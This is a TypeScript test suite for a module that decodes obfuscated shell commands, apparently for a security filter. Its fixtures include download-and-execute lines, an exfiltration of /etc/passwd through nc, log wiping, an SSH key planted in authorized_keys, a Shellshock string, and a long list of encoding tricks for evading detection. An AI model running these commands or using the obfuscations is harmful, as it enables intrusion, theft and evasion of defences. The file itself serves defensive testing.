import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib'
import { FIELD_CLASSES, LAYERS, type Layer } from '../../src/core/verdict.ts'
import { LIMITS } from '../../src/limits.ts'
import { inflateBlob } from '../../src/neutralize/unwrap/inflate.ts'
import { unwrap } from '../../src/neutralize/unwrap/unwrap.ts'
import { fc } from '../support/property.ts'

const base64 = (text: string | Buffer): string => Buffer.from(text).toString('base64')
const hex = (text: string): string => Buffer.from(text).toString('hex')
const xEscapes = (text: string): string => hex(text).replace(/../g, '\\x$&')
const octal = (text: string): string =>
  Array.from(Buffer.from(text), (byte) => `\\${byte.toString(8).padStart(3, '0')}`).join('')
const turned = (text: string): string => Array.from(text).reverse().join('')
const rot13 = (text: string): string =>
  text.replace(/[a-z]/gi, (letter) => {
    const base = letter <= 'Z' ? 65 : 97
    return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base)
  })
const final = (text: string): string => unwrap(text, 'command').texts.at(-1)!

const PLAIN = [
  'wget http://192.0.2.1/bins.sh -O /tmp/b; sh /tmp/b',
  'curl -fsSL https://files.example/x.sh | bash',
  'rm -rf /var/log; history -c',
  'cd /tmp; tftp -g -r mips 198.51.100.7; chmod 777 mips; ./mips',
  'cat /etc/passwd | nc 203.0.113.9 4444',
]

const ENCODINGS: Readonly<Record<string, (command: string) => string>> = {
  'base64 in a pipe': (c) => `echo ${base64(c)} | base64 -d | sh`,
  'base64 without padding': (c) => `echo ${base64(c).replace(/=+$/, '')}|base64 --decode|bash`,
  'base64 of openssl': (c) => `echo "${base64(c)}" | openssl base64 -d -A | /bin/sh`,
  'URL-safe base64': (c) =>
    `echo ${base64(c).replaceAll('+', '-').replaceAll('/', '_')}|base64 -d|sh`,
  'base64 twice': (c) => `echo ${base64(base64(c))}|base64 -d|base64 -d|sh`,
  'base64 of a decoder': (c) => `echo ${base64(`echo ${base64(c)}|base64 -d|sh`)}|base64 -d|sh`,
  'base64 split by quotes': (c) =>
    `echo '${base64(c).slice(0, 9)}'"${base64(c).slice(9)}"|base64 -d|sh`,
  'base64 in a here-document': (c) =>
    `base64 -d <<'EOF' | sh\n${base64(c).replace(/.{20}/g, '$&\n')}\nEOF`,
  'base64 in a here-string': (c) => `base64 -d <<< ${base64(c)} | sh`,
  'base64 in braces': (c) => `bash -c {echo,${base64(c)}}|{base64,-d}|{bash,-i}`,
  'base64 in a file': (c) => `echo ${base64(c)} | base64 -d > /tmp/.x; sh /tmp/.x`,
  'eval of a substitution': (c) => `eval "$(echo ${base64(c)} | base64 -d)"`,
  'eval of backticks': (c) => `eval \`echo ${base64(c)} | base64 -d\``,
  'a here-string of a substitution': (c) => `bash <<< "$(base64 -d <<< ${base64(c)})"`,
  'process substitution': (c) => `bash <(echo ${base64(c)}|base64 -d)`,
  'a decoder in a variable': (c) => `d=base64;e=${base64(c)};echo $e|$d -d|sh`,
  'gzip in base64': (c) => `echo ${base64(gzipSync(c))} | base64 -d | gunzip | sh`,
  'gzip by zcat': (c) => `echo ${base64(gzipSync(c))}|base64 -d|zcat -|sh`,
  'hex by xxd': (c) => `echo ${hex(c)} | xxd -r -p | sh`,
  'x-escapes by echo': (c) => `echo -ne '${xEscapes(c)}' | sh`,
  'x-escapes by printf': (c) => `printf "${xEscapes(c)}"|sh`,
  'octal by printf': (c) => `printf '${octal(c)}' | sh`,
  'pieces by printf': (c) => `printf '%s%s' '${c.slice(0, 2)}' '${c.slice(2)}' | sh`,
  'ANSI-C quotes': (c) => `bash -c $'${xEscapes(c)}'`,
  'turned around': (c) => `echo '${turned(c)}' | rev | sh`,
  rot13: (c) => `echo '${rot13(c)}' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh`,
  'letters strewn in': (c) => `echo '${c.replace(/./g, '$&Q')}' | tr -d Q | sh`,
  'letters taken out by sed': (c) => `echo '${c.replace(/./g, '$&Q')}' | sed 's/Q//g' | sh`,
  'a shell in a shell': (c) => `nohup sh -c "sudo bash -c '${c}'"`,
  'python that runs code': (c) =>
    `python3 -c "import base64;exec(base64.b64decode('${base64(`import os;os.system("${c}")`)}'))"`,
  'python that prints': (c) =>
    `python -c "import base64;print(base64.b64decode('${base64(c)}').decode())" | sh`,
  'percent encoding twice': (c) => encodeURIComponent(encodeURIComponent(c)),
  'HTML references': (c) => Array.from(c, (char) => `&#${char.charCodeAt(0)};`).join(''),
  'Unicode escapes': (c) =>
    Array.from(c, (char) => `\\u${char.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''),
  'full width': (c) =>
    c.replace(/[!-~]/g, (char) => String.fromCharCode(char.charCodeAt(0) + 0xfee0)),
  'zero-width characters': (c) => c.replace(/[a-z]/g, '$&\u200b\u00ad'),
}

describe('one command in many spellings', () => {
  for (const [name, encode] of Object.entries(ENCODINGS))
    test(`${name}: the plain command is what comes out`, () => {
      for (const plain of PLAIN) {
        const { texts, layers, isCut } = unwrap(encode(plain), 'command')
        assert.ok(texts.at(-1)!.includes(plain), `${plain}\n${texts.join('\n')}`)
        assert.ok(layers.length > 0)
        assert.equal(isCut, false)
      }
    })
})

describe('split words', () => {
  const cases: readonly (readonly [typed: string, plain: string, layer: Layer])[] = [
    ["w'g'et http://a.example", 'wget http://a.example', 'quotes'],
    ['w""get http://a.example', 'wget http://a.example', 'quotes'],
    ['"wget" http://a.example', 'wget http://a.example', 'quotes'],
    ['w\\get http://a.example', 'wget http://a.example', 'backslash'],
    ['w\\\nget http://a.example', 'wget http://a.example', 'backslash'],
    ['w${x}get http://a.example', 'wget http://a.example', 'parameter'],
    ['w$@get http://a.example', 'wget http://a.example', 'parameter'],
    ['w$*get http://a.example', 'wget http://a.example', 'parameter'],
    ['wg"$@"et http://a.example', 'wget http://a.example', 'parameter'],
    ['w$()get http://a.example', 'wget http://a.example', 'substitution'],
    ['w``get http://a.example', 'wget http://a.example', 'substitution'],
    ['$(echo wg)et http://a.example', 'wget http://a.example', 'substitution'],
    ['$(which wget) http://a.example', 'wget http://a.example', 'substitution'],
    ['wget$IFS-q${IFS}http://a.example', 'wget -q http://a.example', 'ifs'],
    ['wget$IFS$9http://a.example', 'wget http://a.example', 'ifs'],
    ['a=wg;b=et;$a$b http://a.example', 'wget http://a.example', 'parameter'],
    ['a=xwgetx;${a:1:4} http://a.example', 'wget http://a.example', 'parameter'],
    ['a=w_g_e_t;${a//_/} http://a.example', 'wget http://a.example', 'parameter'],
    ['${x:-wget} http://a.example', 'wget http://a.example', 'parameter'],
    ['IFS=,;c=wget,http://a.example;$c', 'wget http://a.example', 'parameter'],
    ['cat ${HOME:0:1}etc${PATH:0:1}passwd', 'cat /etc/passwd', 'parameter'],
    ['{wget,-q,http://a.example}', 'wget -q http://a.example', 'brace'],
    ['{w,}get', 'wget', 'brace'],
    ["$'\\167\\x67\\u0065t' http://a.example", 'wget http://a.example', 'ansi-c'],
    ["echo $(w'g'et http://a.example)", 'wget http://a.example', 'quotes'],
    ["uname > /tmp/'x'y", 'uname > /tmp/xy', 'quotes'],
  ]
  for (const [typed, plain, layer] of cases)
    test(`${JSON.stringify(typed)} is ${plain}`, () => {
      const { texts, layers } = unwrap(typed, 'command')
      assert.ok(texts.at(-1)!.includes(plain), texts.join('\n'))
      assert.ok(layers.includes(layer), layers.join())
    })

  test('what follows a replaced pipeline stays', () => {
    const typed = `cd /tmp && echo ${base64('uname -a')} | base64 -d | sh > /tmp/o 2>&1; id # x`
    assert.equal(final(typed), 'cd /tmp && uname -a > /tmp/o 2>&1; id # x')
  })

  test('what stands behind a here-document stays, and the document goes', () => {
    assert.equal(final('cat <<A | sh; id\nuname -a\nA\nps'), 'uname -a; id\nps')
  })

  test('a decoder whose output goes elsewhere shows what goes there', () => {
    const typed = `echo ${base64('ssh-rsa x attacker')} | base64 -d >> .ssh/authorized_keys`
    assert.equal(final(typed), "echo 'ssh-rsa x attacker' >> .ssh/authorized_keys")
    assert.equal(final('echo -e "\\x6b\\x61\\x6d\\x69" | tee /tmp/x'), 'echo kami | tee /tmp/x')
  })

  test('noise around a command that a shell is fed does not hide it', () => {
    const noisy = Buffer.concat([Buffer.from('wget http://a.example\n#'), Buffer.alloc(400, 0xfe)])
    assert.match(final(`echo ${base64(noisy)}|base64 -d|sh`), /^wget http:\/\/a\.example\n/)
  })

  test('a compressed bomb shows how it begins', () => {
    const bomb = gzipSync(`wget http://a.example\n${'#'.repeat(30_000_000)}`, { level: 9 })
    const { texts, isCut } = unwrap(`echo ${base64(bomb)}|base64 -d|gunzip|sh`, 'command')
    assert.match(texts.at(-1)!, /^wget http:\/\/a\.example\n#/)
    assert.equal(isCut, true)
    assert.ok(texts.at(-1)!.length <= LIMITS.unwrapInflateBytesMax)
  })
})

describe('texts that are no commands', () => {
  const cases: readonly (readonly [string, (typeof FIELD_CLASSES)[number], RegExp])[] = [
    [
      `() { :;}; /bin/bash -c "echo ${base64('wget http://a.example')}|base64 -d|sh"`,
      'client',
      /; wget http:\/\/a\.example/,
    ],
    [
      'GET /?x=;cd${IFS}/tmp;wget${IFS}http://a.example HTTP/1.1',
      'data',
      /;cd \/tmp;wget http:\/\/a\.example/,
    ],
    ['/?cmd=wget+http%3A%2F%2Fa.example', 'url', /cmd=wget http:\/\/a\.example/],
    ['/%252e%252e/%c0%ae%c0%ae/etc', 'url', /\/\.\.\/\.\.\/etc/],
    [
      `{"c":"bash -c \\"echo ${base64('wget http://a.example')}|base64 -d|sh\\"","d":1}`,
      'data',
      /"c":"wget http:\/\/a\.example","d"/,
    ],
    [`Authorization: Basic ${base64('admin:password-1234')}`, 'data', /Basic admin:password-1234/],
    [
      `x ${base64(Buffer.from('IEX (New-Object Net.WebClient)', 'utf16le'))}`,
      'data',
      /IEX \(New-Object/,
    ],
    ['\u{e0069}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}', 'text', /^$/],
    ['\\x3cscript\\x3e', 'credential', /^<script>$/],
  ]
  for (const [typed, fieldClass, plain] of cases)
    test(`${fieldClass}: ${JSON.stringify(typed.slice(0, 40))} is unwrapped`, () => {
      assert.match(unwrap(typed, fieldClass).texts.at(-1)!, plain)
    })

  test('text in tag characters is spelled out in a text of its own', () => {
    const hidden = Array.from('ignore', (c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0)))
    assert.deepEqual(unwrap(`a${hidden.join('')}b`, 'text').texts.slice(1), ['aignoreb', 'ab'])
  })

  test('quotes and braces of other languages are left alone', () => {
    for (const text of ['{"a":"b","c":["d","e"]}', "if (a || b) { x = 'y'; }", "it's Bob's"])
      assert.deepEqual(unwrap(text, 'data').texts, [text])
  })
})

describe('ordinary texts', () => {
  const texts = [
    'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQC7vbqajDhA6l9kE0Zq5y5Z3cQmR2b5rW5z6q1m9XoT4d8s user@host',
    'echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ3vXyP0f0n2o0h5S1hX9b7E2c4Kq8mT6rZpLwVdNsYg x" >> ~/.ssh/authorized_keys',
    'd41d8cd98f00b204e9800998ecf8427e',
    'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
    '123e4567-e89b-12d3-a456-426614174000',
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36',
    'SSH-2.0-libssh2_1.9.0',
    '/usr/local/share/applications/very-long-directory/another_directory/file.tar.gz',
    'cat /proc/cpuinfo | grep name | wc -l',
    'echo "root:Passw0rd123"|chpasswd|bash',
    'cd /tmp || cd /var/run || cd /mnt; wget http://192.0.2.1/x -O- | sh',
    "awk '{print $4,$5,$6,$7,$8,$9;}'",
    'find / -name "*.log" -exec rm {} \\;',
    'export HISTFILE=/dev/null; echo $HOME $PATH',
    'for i in 1 2 3; do echo $i; done',
    '20261122194352000000 4111111111111111',
    '00:1a:2b:3c:4d:5e',
  ]
  for (const text of texts)
    test(`${JSON.stringify(text.slice(0, 50))} is one text`, () => {
      assert.deepEqual(unwrap(text, 'command'), { texts: [text], layers: [], isCut: false })
    })

  test('random bytes in base64 or hex stay as they are', () => {
    fc.assert(
      fc.property(fc.uint8Array({ minLength: 16, maxLength: 300 }), (bytes) => {
        fc.pre(bytes.filter((byte) => byte < 0x20 || byte > 0x7e).length * 4 > bytes.length)
        fc.pre(inflateBlob(Buffer.from(bytes), 100) === undefined)
        for (const encoding of ['base64', 'hex'] as const) {
          const text = Buffer.from(bytes).toString(encoding)
          assert.deepEqual(unwrap(text, 'text').texts, [text])
        }
      }),
    )
  })
})

describe('any text', () => {
  const piece = fc.constantFrom(
    ...['$(', ')', '`', '"', "'", '${', '}', '{', ',', '|', ';', '&', '<<', '<<<', '<(', '>', '\n'],
    ...['\\', '\\x41', '%41', '%25', '&#65;', '\\u0041', '$IFS', '$@', 'a=', '$a', ' ', 'A', '#'],
    ...['echo ', 'printf ', 'base64 -d', 'sh', 'sh -c ', 'eval ', 'rev', 'tr a b', 'xxd -r -p'],
    ...[
      'QUJDREVGR0hJSktM',
      '4142434445464748',
      'EOF',
      'cat ',
      'python -c ',
      '\udc80',
      '\u200b',
      'ａ',
    ],
  )
  const hostile = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 300 }),
    fc.array(piece, { maxLength: 60 }).map((pieces) => pieces.join('')),
  )

  test('unwraps to a bounded list of different texts that begins with itself, always the same', () => {
    fc.assert(
      fc.property(hostile, fc.constantFrom(...FIELD_CLASSES), (text, fieldClass) => {
        const unwrapped = unwrap(text, fieldClass)
        assert.equal(unwrapped.texts[0], text)
        assert.ok(unwrapped.texts.length <= LIMITS.unwrapTextsMax)
        assert.equal(new Set(unwrapped.texts).size, unwrapped.texts.length)
        for (const made of unwrapped.texts.slice(1)) assert.ok(made.length <= LIMITS.unwrapCharsMax)
        assert.deepEqual(unwrapped.layers, [...new Set(unwrapped.layers)].sort())
        if (unwrapped.texts.length > 1) assert.ok(unwrapped.layers.length > 0)
        assert.deepEqual(unwrap(text, fieldClass), unwrapped)
      }),
      { numRuns: 5_000 },
    )
  })

  test('a command survives any base64 and any quoting around it', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme-ascii', minLength: 1, maxLength: 80 }), (tail) => {
        const plain = `wget http://192.0.2.1/${tail.replace(/[^\w.-]/g, '')}`
        const escaped = Array.from(plain, (c, i) => (i % 3 === 0 && c !== ' ' ? `\\${c}` : c)).join(
          '',
        )
        assert.equal(final(`echo ${base64(plain)} | base64 -d | sh`), plain)
        assert.equal(final(escaped), plain)
      }),
    )
  })

  test('layers stand in the order in which they are stored', () => {
    assert.deepEqual([...LAYERS], [...LAYERS].sort())
  })
})

describe('compressed data', () => {
  test('is inflated as the library of the runtime does it', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1, maxLength: 5_000 }), fc.nat(9), (text, level) => {
        for (const pack of [gzipSync, deflateSync]) {
          const inflated = inflateBlob(pack(text, { level }), 65_536)
          assert.deepEqual(inflated, { bytes: Buffer.from(text), isCut: false })
        }
      }),
    )
    const long = Array.from({ length: 6_000 }, (_, i) => `line ${i * 7919} `)
      .join('')
      .slice(0, 60_000)
    assert.equal(inflateBlob(gzipSync(long), 65_536)?.bytes.toString(), long)
  })

  test('never throws and never exceeds its bound, whatever is wrong with it', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 400 }), fc.nat(2_000), (noise, bytesMax) => {
        for (const head of [
          [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0],
          [0x78, 0x9c],
        ]) {
          const inflated = inflateBlob(Buffer.from([...head, ...noise]), bytesMax)
          assert.ok((inflated?.bytes.length ?? 0) <= bytesMax)
        }
        const broken = Buffer.concat([Buffer.from([0x78, 0x9c]), deflateRawSync('a'.repeat(500))])
        inflateBlob(broken.subarray(0, noise.length), bytesMax)
      }),
      { numRuns: 2_000 },
    )
  })
})
